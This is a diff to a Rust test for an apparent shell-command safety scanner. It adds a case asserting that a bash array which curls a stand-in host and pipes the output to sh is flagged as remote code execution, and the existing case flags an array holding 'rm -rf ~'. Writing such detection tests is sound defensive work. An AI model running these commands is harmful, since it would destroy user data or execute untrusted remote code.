@@ -394,5 +394,10 @@ fn nameref_to_home() {
 #[test]
 fn array_as_command() {
     flagged("a=(rm -rf ~); \"${a[@]}\"", Destructive, Critical);
+    flagged(
+        "cmd=(curl -s http://x.example/a); \"${cmd[@]}\" | sh",
+        RemoteCodeExec,
+        Critical,
+    );
     clean("args=(cargo test --workspace); \"${args[@]}\"");
 }
